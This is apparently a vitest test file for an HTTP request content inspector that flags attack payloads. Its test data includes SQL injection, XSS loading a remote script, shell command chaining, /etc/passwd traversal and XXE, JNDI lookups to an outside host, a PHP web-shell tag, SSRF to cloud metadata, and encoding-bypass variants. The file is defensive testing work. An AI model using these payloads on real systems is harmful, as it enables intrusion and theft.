import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { contentRule } from '../../enrich/content/index.ts';
import { CONTENT_FIELD } from '../../enrich/facts.ts';
import type { BodyHit } from '../contract.ts';
import { createContentInspector } from './index.ts';
import { FINDING, hitOf } from './testing.ts';

fc.configureGlobal({ seed: 20240304 });

const inspector = createContentInspector();
const JSON_TYPE = 'application/json';
const FORM = 'application/x-www-form-urlencoded';
const ruleOf = (hit: BodyHit | null): string | undefined => contentRule(hit?.rule ?? 0)?.name;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const inJson = (value: unknown): Promise<BodyHit | null> => hitOf(inspector, JSON_TYPE, JSON.stringify(value));

describe('bodies', () => {
  it.each([
    ['sql-union', { id: "7' UNION SELECT login, secret FROM members-- " }],
    ['sql-tautology', { id: "7' or '1'='1" }],
    ['html-event', { note: '<img src=x onerror=fetch(1)>' }],
    ['html-script', { comment: 'Nice lamp!<script src=//198.51.100.7/a.js></script>' }],
    ['shell-chain', { host: '198.51.100.7; cat /etc/hostname' }],
    ['file-climb-secret', { file: '../../../../etc/passwd' }],
    ['jndi-lookup', { code: '${jndi:ldap://198.51.100.9/a}' }],
    ['template-arithmetic', { name: '{{7*191}}' }],
    ['nosql-empty', { user: 'anna', password: { $ne: null } }],
    ['nosql-where', { $where: 'sleep(900)' }],
    ['prototype', { __proto__x: 1, ['__proto__']: 1, a: JSON.parse('{"__proto__": {"admin": true}}') }],
    ['url-metadata', { avatar: 'http://169.254.169.254/latest/meta-data/' }],
    ['php-tag', { bio: '<?php system($_GET["c"]); ?>' }],
    ['serial-java', { state: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' }],
  ])('give away %s in JSON', async (rule, value) => {
    const hit = await inJson(value);
    expect(ruleOf(hit)).toBe(rule);
    expect(hit?.millinats).toBeGreaterThanOrEqual(FINDING);
    expect(hit?.field).toBe(CONTENT_FIELD.body);
  });

  it.each([
    ['Base64', base64("7' union select 1,2,3-- ")],
    ['Base64 without padding', base64("17' union select 1,2,3-- ").replaceAll('=', '')],
    ['Base64 twice', base64(base64("7' union select 1,2,3-- "))],
    ['percent signs', encodeURIComponent("7' union select 1,2,3-- ")],
    ['percent signs twice', encodeURIComponent(encodeURIComponent("7' union select 1,2,3-- "))],
    ['a form’s encoding', '7%27+union+select+1,2,3--+'],
    ['character references', '7&#39; union&#x20;select 1,2,3-- '],
    ['escapes of script', '7\\u0027 union select 1,2,3-- '],
    ['comments', "7'/**/union/**/select/**/1,2,3-- "],
    ['JSON in JSON', JSON.stringify({ a: JSON.stringify({ b: "7' union select 1,2,3-- " }) })],
    ['Base64 of JSON', base64(JSON.stringify({ b: "7' union select 1,2,3-- " }))],
    ['full-width forms', '7＇ union select 1,2,3-- '],
  ])('give it away behind %s', async (_, value) => {
    expect(contentRule((await inJson({ id: value }))?.rule ?? 0)?.language).toBe('sql');
  });

  it('give markup away behind UTF-7 and data addresses', async () => {
    expect(ruleOf(await inJson({ a: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' }))).toBe('html-script');
    expect(ruleOf(await inJson({ a: `data:text/html;base64,${base64('<script>alert(1)</script>')}` }))).toBe(
      'html-script',
    );
  });

  it('are read as what they are: forms, parts, XML, plain text', async () => {
    const payload = "7' union select 1,2,3-- ";
    expect(ruleOf(await hitOf(inspector, FORM, `id=${encodeURIComponent(payload)}`))).toBe('sql-union');
    const part = `--b\r\nContent-Disposition: form-data; name="id"\r\n\r\n${payload}\r\n--b--\r\n`;
    expect(ruleOf(await hitOf(inspector, 'multipart/form-data; boundary=b', part))).toBe('sql-union');
    expect(ruleOf(await hitOf(inspector, 'text/xml', `<a><id>7&apos; union select 1,2,3-- </id></a>`))).toBe(
      'sql-union',
    );
    expect(ruleOf(await hitOf(inspector, 'text/plain', payload))).toBe('sql-union');
    expect(ruleOf(await hitOf(inspector, '', '<script>alert(1)</script>'))).toBe('html-script');
    const entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
    expect(ruleOf(await hitOf(inspector, 'text/xml', entity))).toBe('xml-entity');
  });

  it('are judged by what a field is for', async () => {
    const statement = "SELECT name FROM users WHERE name = 'x' OR 1=1; DROP TABLE t";
    expect((await inJson({ code: statement }))?.millinats ?? 0).toBeLessThan(2500);
    expect((await inJson({ title: '<p>Hello <img src="/a.png"></p>' }))?.millinats ?? 0).toBeLessThan(2500);
    expect((await inJson({ id: '<p>Hello <img src="/a.png"></p>' }))?.millinats ?? 0).toBeGreaterThan(FINDING);
    const asked = 'How would you write union select in this language, and why would it be of use for us?';
    expect((await inJson({ x: asked }))?.millinats ?? 0).toBeLessThan(FINDING);
    expect(ruleOf(await inJson({ content: { en: 'Hi <img src=x onerror=alert(1)> there' } }))).toBe('html-event');
  });

  it('let operators pass where clients are to send them', async () => {
    expect((await inJson({ filter: { age: { $gt: 5, $ne: null } } }))?.millinats ?? 0).toBeLessThan(FINDING);
    expect((await inJson({ user: { $regex: '.*' } }))?.millinats ?? 0).toBeGreaterThan(FINDING);
  });

  it('with files: names of scripts and what makes a server run them', async () => {
    const file = (name: string, content: string): Promise<BodyHit | null> =>
      hitOf(
        inspector,
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: image/gif\r\n\r\n${content}\r\n--b--\r\n`,
      );
    expect(ruleOf(await file('a.php', 'x'))).toBe('file-script');
    expect(ruleOf(await file('../a.txt', 'x'))).toBe('file-climb-root');
    expect(ruleOf(await file('a.phtml.gif', 'x'))).toBe('file-script');
    expect(ruleOf(await file('a.gif', 'GIF89a\u0001\u0002 <?php system(1); ?>'))).toBe('php-tag');
    expect((await file('notes.txt', "SELECT * FROM a; DROP TABLE b; ' or 1=1--"))?.millinats ?? 0).toBeLessThan(2500);
    expect((await file('report.pdf', 'select 1'))?.millinats ?? 0).toBeLessThan(FINDING);
  });
});

describe('headers', () => {
  it.each([
    ['X-Api-Version', '${jndi:ldap://198.51.100.9/a}', 'header.x-api-version'],
    ['Content-Type', "%{(#_='multipart/form-data').(#a=@java.lang.Runtime@getRuntime())}", 'header.content-type'],
    ['Accept-Language', '${${lower:j}ndi:dns://198.51.100.9}', 'header.accept-language'],
    ['X-Forwarded-For', "198.51.100.7' or sleep(9)-- ", 'header.x-forwarded-for'],
    ['Cookie', 'sid=a; id=7%27%20union%20select%201,2,3--%20; b=c', 'cookie.id'],
    ['X-Original-Url', '/../../../etc/passwd', 'header.x-original-url'],
    ['X-Data', base64("7' union select 1,2,3-- "), 'header.x-data'],
  ])('give away what stands in %s', async (name, value, path) => {
    const hit = await hitOf(inspector, '', '', [name, value]);
    expect(hit?.millinats).toBeGreaterThanOrEqual(FINDING);
    expect(hit).toMatchObject({ path, field: CONTENT_FIELD.header });
  });
});

describe('evidence', () => {
  it('names the place and shows the text around it', async () => {
    const hit = await inJson({ user: { name: 'Anna', bio: `Hi <script>alert(1)</script> ${'x'.repeat(400)}` } });
    expect(hit?.path).toBe('$.user.bio');
    expect(hit?.excerpt).toContain('<script>');
    expect(hit?.excerpt.length).toBeLessThanOrEqual(120);
    expect((await inJson({ a: "\u001b[31m' union select 1,2,3-- " }))?.excerpt).not.toContain('\u001b');
  });

  it('never shows a secret', async () => {
    for (const name of ['password', 'new_passwd', 'apiKey', 'card_number', 'otp', 'sessionToken']) {
      expect(await inJson({ [name]: "x' union select 1,2,3-- " })).toMatchObject({ excerpt: '…' });
    }
    expect(await inJson({ password: { value: "x' union select 1,2,3-- " } })).toMatchObject({ excerpt: '…' });
    expect(await inJson({ passengers: { value: "x' union select 1,2,3-- " } })).not.toMatchObject({ excerpt: '…' });
    const broken = `{"user":"a","password":"x' union select 1,2,3-- "`;
    expect((await hitOf(inspector, JSON_TYPE, broken))?.excerpt).toBe('…');
    expect((await hitOf(inspector, 'text/plain', broken))?.excerpt).toBe('…');
    const hit = await hitOf(inspector, '', '', ['Cookie', "session=x' union select 1,2,3--%20"]);
    expect(hit?.excerpt).toBe('…');
    expect(
      (await hitOf(inspector, '', '', ['Authorization', `Basic ${base64("a:x' union select 1,2,3-- ")}`]))?.excerpt,
    ).toBe('…');
  });

  it('grows a little with further fields of the language, and with no others', async () => {
    const one = (await inJson({ a: "x' or sleep(9)-- " }))?.millinats ?? 0;
    const two = (await inJson({ a: "x' or sleep(9)-- ", b: "y' or sleep(9)-- " }))?.millinats ?? 0;
    const other = (await inJson({ a: "x' or sleep(9)-- ", b: '../../../x' }))?.millinats ?? 0;
    expect(two).toBe(one + 400);
    expect(other).toBe(one);
    const all = Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`f${i}`, "x' union select 1,2,3-- "]));
    expect((await inJson(all))?.millinats).toBe(9200);
  });

  it('forgets one request before the next', async () => {
    await inJson({ a: "x' union select 1,2,3-- " });
    expect(await inJson({ a: 'a lamp' })).toBeNull();
  });
});

describe('whatever is sent', () => {
  const mark = fc.constantFrom(
    ...'\'"<>(){}[]$#;|&/\\:=@*%!-+.,?` \n\0',
    'or',
    'select',
    '__proto__',
    '$ne',
    '%27',
    '+ADw-',
    'rO0AB',
    '`',
  );
  const text = fc.oneof(
    fc.string(),
    fc.array(mark, { maxLength: 60 }).map((parts) => parts.join('')),
  );

  it('never throws, and keeps to its bounds', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(text, fc.oneof(text, fc.array(text, { maxLength: 3 }))),
        text,
        async (value, cookie) => {
          const headers = ['Cookie', cookie.replace(/[^\x20-\x7e]/g, '_'), 'X-A', cookie.replace(/[^\x20-\x7e]/g, '_')];
          const hit = await hitOf(inspector, JSON_TYPE, JSON.stringify(value), headers);
          if (hit === null) return;
          expect(hit.millinats).toBeGreaterThan(0);
          expect(hit.millinats).toBeLessThanOrEqual(9200);
          expect(hit.excerpt.length).toBeLessThanOrEqual(120);
          expect(hit.path.length).toBeLessThanOrEqual(160);
          expect(contentRule(hit.rule)).toBeDefined();
        },
      ),
      { numRuns: 300 },
    );
  });

  it('finds a payload at the end of a long text', async () => {
    for (const length of [100, 8000, 60_000, 130_000]) {
      expect(ruleOf(await inJson({ a: `${'A'.repeat(length)}' union select 1,2,3-- ` })), String(length)).toBe(
        'sql-union',
      );
    }
  });
});
